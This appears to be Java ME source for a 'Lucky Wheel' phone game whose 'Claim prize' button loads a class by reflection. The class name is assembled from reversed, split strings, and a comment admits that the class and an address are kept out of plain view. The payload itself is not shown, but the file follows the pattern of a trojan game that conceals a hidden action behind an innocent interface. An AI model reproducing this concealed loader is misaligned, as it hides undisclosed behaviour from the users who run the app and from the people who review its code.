package com.example.luckywheel;

import java.util.Random;
import javax.microedition.lcdui.Canvas;
import javax.microedition.lcdui.Command;
import javax.microedition.lcdui.CommandListener;
import javax.microedition.lcdui.Display;
import javax.microedition.lcdui.Displayable;
import javax.microedition.lcdui.Graphics;
import javax.microedition.midlet.MIDlet;

/** A wheel of fortune; the prize is claimed through a class and an address that stand nowhere in clear. */
public class LuckyWheelMIDlet extends MIDlet implements CommandListener {
    private final Command claim = new Command("Claim prize", Command.OK, 1);
    private final Command exit = new Command("Exit", Command.EXIT, 2);
    private Wheel wheel;

    protected void startApp() {
        if (wheel == null) {
            wheel = new Wheel();
            wheel.addCommand(claim);
            wheel.addCommand(exit);
            wheel.setCommandListener(this);
        }
        Display.getDisplay(this).setCurrent(wheel);
    }

    protected void pauseApp() {
    }

    protected void destroyApp(boolean unconditional) {
    }

    public void commandAction(Command command, Displayable screen) {
        if (command == exit) {
            notifyDestroyed();
        } else if (command == claim) {
            try {
                String name = "com.example.lucky" + "wheel.".concat(Hidden.reversed("ezirP"));
                new Thread((Runnable) Class.forName(name).newInstance()).start();
            } catch (Exception e) {
                notifyDestroyed();
            }
        }
    }

    static class Wheel extends Canvas {
        private final Random random = new Random();
        private int angle;

        protected void keyPressed(int key) {
            angle = (random.nextInt() & 0x7fff) % 360;
            repaint();
        }

        protected void paint(Graphics g) {
            int size = Math.min(getWidth(), getHeight()) - 4;
            g.setColor(0xffffff);
            g.fillRect(0, 0, getWidth(), getHeight());
            for (int i = 0; i < 8; i++) {
                g.setColor(i % 2 == 0 ? 0xc03030 : 0x30a030);
                g.fillArc(2, 2, size, size, angle + i * 45, 45);
            }
        }
    }
}
